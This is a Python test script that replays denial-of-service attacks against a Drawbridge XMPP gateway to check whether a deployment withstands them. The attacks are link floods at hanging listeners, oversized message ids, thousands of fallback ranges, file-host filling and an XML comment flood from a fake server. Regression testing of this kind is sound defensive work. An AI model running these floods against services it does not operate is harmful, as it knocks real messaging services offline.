#!/usr/bin/python3
"""Replay the attacks of issue 21 against a live Drawbridge deployment.

Run it only against a deployment you operate. It connects to the one XMPP
server given (--server) with the accounts given, and every link it sends
points at a listener this script opens itself (--listen/--advertise): it
never makes the gateway fetch anything else. See README.md beside it.

    /usr/bin/python3 testdata/attacks/attack.py \\
        --server xmpp.example.org:5222 --gateway wa.example.org \\
        --attacker mallory@example.org:PASSWORD --victim alice@example.org:PASSWORD \\
        --echo +15550000001@wa.example.org \\
        --listen 0.0.0.0:8089 --advertise 203.0.113.7 \\
        link-flood long-ids fallback-ranges file-host-fill

    /usr/bin/python3 testdata/attacks/attack.py comment-flood \\
        --component-listen 127.0.0.1:5347 --gateway wa.example.org --secret S

Attacks (each prints one JSON line; exit status 1 if any was not withstood):

link-flood       the attacker sends --messages messages with --links links
                 each to a host that accepts and never answers; the victim's
                 echo round trip (--echo) and disco#info to the gateway are
                 measured before and during it: withstood when "during" stays
                 within 10x "before" + 2 s.
long-ids         a message with a 100 KB id and origin-id: withstood when it
                 is answered <bad-request/>.
fallback-ranges  a reply with --ranges (7 000) fallback ranges: withstood when
                 it is answered <bad-request/>.
file-host-fill   the attacker sends one message with --files files of --file-size
                 bytes (served by this script) to the echo contact, whose echoes go through
                 the gateway's file host; the victim then sends one: withstood
                 when the victim's file still comes back stored.
comment-flood    acts as a hostile XMPP server: point a test gateway's
                 component.server at --component-listen; after the handshake
                 it sends "<!--" and then --flood-bytes of junk: withstood when
                 the gateway closes the stream (restricted-xml) early.

Exit status: 0 all withstood, 1 one was not, 2 bad arguments or no session.
"""

import argparse
import asyncio
import hashlib
import json
import logging
import socket
import sys
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

logging.getLogger("slixmpp.stringprep").setLevel(logging.ERROR)

import slixmpp  # noqa: E402
from slixmpp.exceptions import IqError, IqTimeout  # noqa: E402
from xml.sax.saxutils import escape, quoteattr  # noqa: E402

NS_STANZAS = "urn:ietf:params:xml:ns:xmpp-stanzas"


class Client(slixmpp.ClientXMPP):
    """An XMPP account that records every message it receives, by id."""

    def __init__(self, jid, password, plaintext):
        super().__init__(jid, password)
        if plaintext:
            self.register_plugin("feature_mechanisms", {"unencrypted_plain": True})
        self.register_plugin("xep_0030")
        self.register_plugin("xep_0199")
        self.received = []
        self.changed = asyncio.Event()
        self.started = self.loop.create_future()
        self.add_event_handler("session_start", self._start)
        self.add_event_handler("message", self._got)
        self.add_event_handler("message_error", self._got)
        self.add_event_handler("failed_auth", lambda _: self._fail("authentication failed"))

    def _fail(self, why):
        if not self.started.done():
            self.started.set_exception(RuntimeError("%s: %s" % (self.boundjid.bare, why)))

    async def _start(self, _):
        self.send_presence()
        if not self.started.done():
            self.started.set_result(True)

    def _got(self, msg):
        self.received.append(msg)
        self.changed.set()

    async def wait_for(self, pred, timeout):
        """The first received message (old or new) matching pred, or None."""
        end = self.loop.time() + timeout
        seen = 0
        while True:
            for m in self.received[seen:]:
                if pred(m):
                    return m
            seen = len(self.received)
            left = end - self.loop.time()
            if left <= 0:
                return None
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), left)
            except asyncio.TimeoutError:
                pass


def error_condition(msg):
    """The defined condition of an error stanza, or ""."""
    if msg["type"] != "error":
        return ""
    err = msg.xml.find("{jabber:client}error")
    if err is None:
        return ""
    for child in err:
        if child.tag.startswith("{%s}" % NS_STANZAS) and not child.tag.endswith("}text"):
            return child.tag.split("}", 1)[1]
    return ""


def silent_listener(listen):
    """A TCP listener that accepts connections and never answers."""
    host, port = listen.rsplit(":", 1)
    ln = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    ln.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ln.bind((host, int(port)))
    ln.listen(1024)
    held = []

    def loop():
        while True:
            try:
                c, _ = ln.accept()
            except OSError:
                return
            held.append(c)

    threading.Thread(target=loop, daemon=True).start()
    return ln, held


def file_server(listen, size):
    """An HTTP server answering every GET with size bytes of text."""
    host, port = listen.rsplit(":", 1)
    block = b"drawbridge attack script file host fill\n" * 1600

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            left = size
            while left > 0:
                n = min(left, len(block))
                self.wfile.write(block[:n])
                left -= n

        def log_message(self, *_):
            pass

    srv = ThreadingHTTPServer((host, int(port)), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


async def echo_rtt(victim, echo, timeout):
    body = "probe-" + uuid.uuid4().hex[:12]
    t0 = time.monotonic()
    victim.send_message(mto=echo, mbody=body, mtype="chat")
    got = await victim.wait_for(lambda m: m["from"].bare == echo and body in m["body"], timeout)
    return time.monotonic() - t0 if got is not None else None


async def disco_rtt(victim, gateway, timeout):
    t0 = time.monotonic()
    try:
        await victim["xep_0030"].get_info(jid=gateway, timeout=timeout, cached=False)
    except (IqError, IqTimeout):
        return None
    return time.monotonic() - t0


async def measure(victim, args, rounds=5):
    out = {"echo": [], "disco": []}
    for _ in range(rounds):
        if args.echo:
            out["echo"].append(await echo_rtt(victim, args.echo, args.step_timeout))
        out["disco"].append(await disco_rtt(victim, args.gateway, args.step_timeout))
    return out


def within(before, during):
    """During stays within 10x the slowest before + 2 s (None: no answer)."""
    if not before or None in before or None in during:
        return False
    bound = 10 * max(before) + 2
    return all(d <= bound for d in during)


async def link_flood(a, attacker, victim):
    if not a.listen or not a.advertise:
        raise SystemExit("link-flood needs --listen and --advertise")
    ln, held = silent_listener(a.listen)
    port = ln.getsockname()[1]
    try:
        before = await measure(victim, a)
        links = "".join(
            "<x xmlns='jabber:x:oob'><url>http://%s:%d/f%d.jpg</url></x>" % (a.advertise, port, i)
            for i in range(a.links))
        to = a.echo or ("+15551000000@" + a.gateway)
        local, domain = to.split("@", 1)
        for i in range(a.messages):
            # A different contact each time (when the platform has phone
            # numbers), so that the messages spread over the gateway's lanes.
            target = "%s%04d@%s" % (local[:-4], i, domain) if local.startswith("+") and len(local) > 8 else to
            attacker.send_raw("<message type='chat' to=%s id='flood%d'><body>look</body>%s</message>"
                              % (quoteattr(target), i, links))
        during = await measure(victim, a)
    finally:
        ln.close()
        for c in held:
            c.close()
    ok = within(before["disco"], during["disco"]) and (not a.echo or within(before["echo"], during["echo"]))
    refused = sum(1 for m in attacker.received if m["id"].startswith("flood") and m["type"] == "error")
    return ok, {"before": before, "during": during, "connections_held": len(held), "flood_refused": refused}


async def expect_bad_request(attacker, stanza_id, raw, timeout):
    t0 = time.monotonic()
    attacker.send_raw(raw)
    got = await attacker.wait_for(lambda m: m["id"] == stanza_id and m["type"] == "error", timeout)
    cond = error_condition(got) if got is not None else "no answer"
    return cond == "bad-request", {"answer": cond, "seconds": round(time.monotonic() - t0, 3)}


async def long_ids(a, attacker, _victim):
    sid = "L" + "x" * 100_000
    to = a.echo or a.gateway
    raw = ("<message type='chat' to=%s id='%s'><body>long ids</body>"
           "<origin-id xmlns='urn:xmpp:sid:0' id='%s'/></message>" % (quoteattr(to), sid, sid))
    return await expect_bad_request(attacker, sid, raw, a.step_timeout)


async def fallback_ranges(a, attacker, _victim):
    sid = "fb-" + uuid.uuid4().hex[:8]
    to = a.echo or a.gateway
    # 7 000 ranges keep the stanza under Prosody's c2s limit (256 KiB); the
    # original attack came over s2s with 17 000.
    n = a.ranges
    body = "x" * n
    ranges = "".join("<body start='%d' end='%d'/>" % (i, i + 1) for i in range(n))
    raw = ("<message type='chat' to=%s id='%s'><body>%s</body>"
           "<reply xmlns='urn:xmpp:reply:0' id='target'/>"
           "<fallback xmlns='urn:xmpp:fallback:0' for='urn:xmpp:reply:0'>%s</fallback></message>"
           % (quoteattr(to), sid, body, ranges))
    return await expect_bad_request(attacker, sid, raw, a.step_timeout)


async def file_host_fill(a, attacker, victim):
    if not a.echo or not a.listen or not a.advertise:
        raise SystemExit("file-host-fill needs --echo, --listen and --advertise")
    srv = file_server(a.listen, a.file_size)
    port = srv.server_address[1]
    try:
        # One message with --files files, as in the original attack.
        urls = ["http://%s:%d/fill%d.txt" % (a.advertise, port, i) for i in range(a.files)]
        attacker.send_raw("<message type='chat' to=%s id='fill'><body>files</body>%s</message>" % (
            quoteattr(a.echo), "".join("<x xmlns='jabber:x:oob'><url>%s</url></x>" % escape(u) for u in urls)))
        # Count what came back from the echo contact: a stored file (OOB)
        # or the gateway's notice that it could not be passed on.
        stored = notices = 0
        deadline = time.monotonic() + a.step_timeout
        while time.monotonic() < deadline and stored + notices < a.files:
            echoes = [m for m in attacker.received if m["from"].bare == a.echo and m["type"] != "error"]
            stored = sum(1 for m in echoes if m.xml.find("{jabber:x:oob}x") is not None)
            notices = sum(1 for m in echoes if "could not be passed on" in m["body"])
            if stored + notices < a.files:
                attacker.changed.clear()
                try:
                    await asyncio.wait_for(attacker.changed.wait(), max(deadline - time.monotonic(), 0.01))
                except asyncio.TimeoutError:
                    pass
        url = "http://%s:%d/victim.txt" % (a.advertise, port)
        victim.send_raw("<message type='chat' to=%s id='victim-file'><body>%s</body>"
                        "<x xmlns='jabber:x:oob'><url>%s</url></x></message>"
                        % (quoteattr(a.echo), escape(url), escape(url)))
        got = await victim.wait_for(lambda m: m["from"].bare == a.echo and (
            m.xml.find("{jabber:x:oob}x") is not None or "could not be passed on" in m["body"]), a.step_timeout)
    finally:
        srv.shutdown()
    victim_stored = got is not None and got.xml.find("{jabber:x:oob}x") is not None
    refused = [error_condition(m) for m in attacker.received if m["id"] == "fill" and m["type"] == "error"]
    # Not exercised when the attacker's message was refused as a whole
    # (its rate, after another attack: run this one first or alone).
    return victim_stored, {"exercised": stored + notices == a.files, "attacker_stored": stored,
                           "attacker_refused": notices, "attacker_errors": refused, "victim_stored": victim_stored}


ATTACKS = {
    "link-flood": link_flood,
    "long-ids": long_ids,
    "fallback-ranges": fallback_ranges,
    "file-host-fill": file_host_fill,
}


def comment_flood(a):
    """Be the XMPP server for one component connection, then flood it."""
    host, port = a.component_listen.rsplit(":", 1)
    ln = socket.create_server((host, int(port)))
    ln.settimeout(a.timeout)
    print("waiting for the gateway on %s (set its component.server here)" % a.component_listen, file=sys.stderr)
    conn, _ = ln.accept()
    conn.settimeout(a.step_timeout)
    buf = b""
    while b">" not in buf:
        buf += conn.recv(4096)
    sid = uuid.uuid4().hex
    conn.sendall(("<?xml version='1.0'?><stream:stream xmlns='jabber:component:accept' "
                  "xmlns:stream='http://etherx.jabber.org/streams' from=%s id='%s'>"
                  % (quoteattr(a.gateway), sid)).encode())
    want = hashlib.sha1((sid + a.secret).encode()).hexdigest()
    buf = b""
    while b"</handshake>" not in buf:
        chunk = conn.recv(4096)
        if not chunk:
            raise SystemExit("the gateway closed the stream during the handshake")
        buf += chunk
    if want.encode() not in buf:
        raise SystemExit("the gateway's handshake does not match --secret")
    conn.sendall(b"<handshake/>")
    conn.sendall(b"<message from='x@example.test/r' to='y@" + a.gateway.encode() + b"'><body><!--")
    sent, junk, closed_early = 0, b"x" * 65536, False
    t0 = time.monotonic()
    try:
        while sent < a.flood_bytes:
            conn.sendall(junk)
            sent += len(junk)
    except OSError:
        closed_early = True
    answer = b""
    try:
        conn.settimeout(2)
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            answer += chunk
    except OSError:
        pass
    conn.close()
    ln.close()
    restricted = b"restricted-xml" in answer
    ok = closed_early or restricted
    return ok, {"bytes_sent": sent, "closed_early": closed_early, "restricted_xml": restricted,
                "seconds": round(time.monotonic() - t0, 3)}


def account(s):
    jid, sep, pw = s.partition(":")
    if not sep or "@" not in jid:
        raise argparse.ArgumentTypeError("want JID:PASSWORD")
    return jid, pw


def size(s):
    units = {"k": 1000, "m": 1000 ** 2, "g": 1000 ** 3, "kb": 1000, "mb": 1000 ** 2, "gb": 1000 ** 3,
             "kib": 1024, "mib": 1024 ** 2, "gib": 1024 ** 3}
    s = s.strip().lower()
    for u in sorted(units, key=len, reverse=True):
        if s.endswith(u):
            return int(float(s[: -len(u)]) * units[u])
    return int(s)


async def run_client_attacks(a):
    host, port = a.server.rsplit(":", 1)
    clients = []
    for jid, pw in (a.attacker, a.victim):
        c = Client(jid, pw, a.plaintext)
        c.connect(address=(host, int(port)), force_starttls=not a.plaintext, disable_starttls=a.plaintext)
        clients.append(c)
    try:
        await asyncio.wait_for(asyncio.gather(*(c.started for c in clients)), a.step_timeout)
    except (asyncio.TimeoutError, RuntimeError) as e:
        print(json.dumps({"error": "no session: %s" % (e or "timeout")}))
        return 2
    attacker, victim = clients
    failed = False
    for name in a.attacks:
        ok, detail = await ATTACKS[name](a, attacker, victim)
        print(json.dumps({"attack": name, "withstood": ok, **detail}), flush=True)
        failed |= not ok
    for c in clients:
        c.disconnect()
    return 1 if failed else 0


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attacks", nargs="+", choices=sorted(ATTACKS) + ["comment-flood"])
    p.add_argument("--server", help="the XMPP server's c2s address, HOST:PORT")
    p.add_argument("--gateway", required=True, help="the gateway's domain (component JID)")
    p.add_argument("--attacker", type=account, help="JID:PASSWORD of the account that attacks")
    p.add_argument("--victim", type=account, help="JID:PASSWORD of the account whose service is measured")
    p.add_argument("--echo", help="a contact JID on the gateway that answers (the sandbox echo bot)")
    p.add_argument("--plaintext", action="store_true", help="no STARTTLS (loopback test servers only)")
    p.add_argument("--listen", help="HOST:PORT this script listens on for the links it sends")
    p.add_argument("--advertise", help="the host name or address the gateway reaches --listen by")
    p.add_argument("--messages", type=int, default=100)
    p.add_argument("--links", type=int, default=10)
    p.add_argument("--ranges", type=int, default=7000)
    p.add_argument("--files", type=int, default=10)
    p.add_argument("--file-size", type=size, default=1_000_000)
    p.add_argument("--component-listen", help="HOST:PORT to accept the gateway's component link on")
    p.add_argument("--secret", help="the component secret (comment-flood)")
    p.add_argument("--flood-bytes", type=size, default=300 * 1000 ** 2)
    p.add_argument("--step-timeout", type=float, default=30)
    p.add_argument("--timeout", type=float, default=600)
    a = p.parse_args(argv)
    if "comment-flood" in a.attacks:
        if a.attacks != ["comment-flood"] or not a.component_listen or not a.secret:
            p.error("comment-flood runs alone, with --component-listen and --secret")
        ok, detail = comment_flood(a)
        print(json.dumps({"attack": "comment-flood", "withstood": ok, **detail}))
        return 0 if ok else 1
    if not a.server or not a.attacker or not a.victim:
        p.error("--server, --attacker and --victim are required")
    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    return loop.run_until_complete(asyncio.wait_for(run_client_attacks(a), a.timeout))


if __name__ == "__main__":
    sys.exit(main())
